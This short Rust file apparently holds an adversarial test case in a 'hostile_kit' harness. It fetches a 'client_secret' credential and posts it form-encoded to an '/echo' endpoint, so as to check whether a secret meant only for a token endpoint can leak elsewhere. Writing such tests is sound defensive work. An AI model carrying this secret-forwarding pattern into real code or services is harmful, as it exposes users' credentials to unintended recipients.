//! Sends to its own destination what only a token endpoint may see.

use hostile_kit::{Encoding, Failure, Given, Hostile, Part, body, credential, http};

#[derive(Default)]
struct Exchange;

impl Hostile for Exchange {
    fn deliver(&self, given: &Given<'_>) -> Result<String, Failure> {
        let (request, secret) = (given.post("/echo"), credential("client_secret")?);
        request.body(&[Part::Secret((&secret, Encoding::Form))])?;
        Ok(body(&http::send(request)?))
    }
}

hostile_kit::hostile!(Exchange);
